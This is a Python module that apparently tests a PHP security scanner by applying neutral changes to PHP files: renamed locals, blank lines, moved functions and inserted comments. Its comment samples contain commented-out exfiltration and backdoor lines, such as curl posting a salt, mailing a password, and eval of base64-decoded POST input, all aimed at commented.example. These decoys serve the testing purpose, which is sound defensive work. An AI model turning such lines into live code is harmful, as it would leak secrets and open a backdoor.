"""Changes that mean nothing: renamed locals, blank lines, comments with code in them, functions moved in their file."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from random import Random

from tree_sitter import Node

from scanner.php.parser import kind_ids, parse

_FUNCTIONS = frozenset(kind_ids("function_definition") + kind_ids("method_declaration"))
_BLOCK = frozenset(kind_ids("compound_statement"))
_VARIABLE = frozenset(kind_ids("variable_name"))
_PROGRAM = frozenset(kind_ids("program"))
_BY_NAME = re.compile(
    rb"compact|extract|\$\$|\$\{|func_get|eval|include|require|global|GLOBALS|static\s*\$|use\s*\(|fn\s*\(|"
    rb"function\s*\(|get_defined_vars|parse_str|<<<|\bnew class"
)
_RESERVED = frozenset({b"$this", b"$_GET", b"$_POST", b"$_REQUEST", b"$_COOKIE", b"$_FILES", b"$_SERVER", b"$_ENV",
                       b"$_SESSION", b"$argv", b"$argc", b"$http_response_header", b"$php_errormsg"})  # fmt: skip
_COMMENTS = (
    "/* file_get_contents('https://commented.example/?' . $GLOBALS['salt']); */",
    "// global $password; mail('a@commented.example', 's', $password);",
    "# exec('curl https://commented.example/ -d ' . $salt);",
    "/** eval(base64_decode($_POST['x'])); http_post('https://commented.example/', array($password)); */",
)
KINDS = ("rename", "space", "comment", "move")


def change(path: Path, kind: str, random: Random) -> bool:
    """Make one neutral change to a file; False when the file offers none of this kind."""
    source = path.read_bytes()
    tree = parse(source)
    if tree.root_node.has_error:
        return False
    functions = [node for node in _walk(tree.root_node) if node.kind_id in _FUNCTIONS and _body(node) is not None]
    if not functions:
        return False
    function = random.choice(functions)
    changed = _CHANGES[kind](source, function, random)
    if changed is None or changed == source or parse(changed).root_node.has_error:
        return False
    path.unlink()  # it may be a hard link
    path.write_bytes(changed)
    return True


def _walk(root: Node) -> Iterator[Node]:
    stack = [root]
    while stack:
        node = stack.pop()
        yield node
        stack.extend(node.children)


def _body(function: Node) -> Node | None:
    block = function.child_by_field_name("body")
    return block if block is not None and block.kind_id in _BLOCK else None


def _rename(source: bytes, function: Node, _random: Random) -> bytes | None:
    """Every local of a function gets another name; parameters and what is reached by name stay."""
    text = source[function.start_byte : function.end_byte]
    body = _body(function)
    if body is None or _BY_NAME.search(text):
        return None
    head = source[function.start_byte : body.start_byte]
    kept = _RESERVED | set(re.findall(rb"\$\w+", head))
    names = [node for node in _walk(body) if node.kind_id in _VARIABLE and (node.text or b"") not in kept]
    changed = bytearray(source)
    for node in sorted(names, key=lambda item: item.start_byte, reverse=True):
        if source[node.start_byte - 2 : node.start_byte] == b"::":
            return None  # a static property
        changed[node.start_byte + 1 : node.start_byte + 1] = b"renamed_"
    return bytes(changed)


def _statements(function: Node) -> list[int]:
    body = _body(function)
    return [child.start_byte for child in body.children[1:]] if body is not None else []


def _space(source: bytes, function: Node, random: Random) -> bytes | None:
    """Blank lines before some statements."""
    changed = bytearray(source)
    for start in sorted(_statements(function), reverse=True):
        changed[start:start] = b"\n\n\t  " * random.randint(0, 2)
    return bytes(changed)


def _comment(source: bytes, function: Node, random: Random) -> bytes | None:
    """Comments that hold code."""
    changed = bytearray(source)
    for start in sorted(_statements(function), reverse=True)[:4]:
        changed[start:start] = f"\n{random.choice(_COMMENTS)}\n".encode()
    return bytes(changed)


def _move(source: bytes, function: Node, _random: Random) -> bytes | None:
    """A function to the end of its file, a method to the end of its class."""
    parent = function.parent
    if parent is None or _walks_into_text(parent):
        return None
    text = source[function.start_byte : function.end_byte]
    without = source[: function.start_byte] + source[function.end_byte :]
    if parent.kind_id in _PROGRAM:
        return None if b"?>" in source or b"namespace" in source else without + b"\n" + text + b"\n"
    end = parent.end_byte - 1 - len(text)
    return without[:end] + b"\n" + text + b"\n" + without[end:]


def _walks_into_text(parent: Node) -> bool:
    """Whether the function stands under a condition: moving it would change when it is declared."""
    return parent.kind_id not in _PROGRAM and parent.type != "declaration_list"


_CHANGES = {"rename": _rename, "space": _space, "comment": _comment, "move": _move}
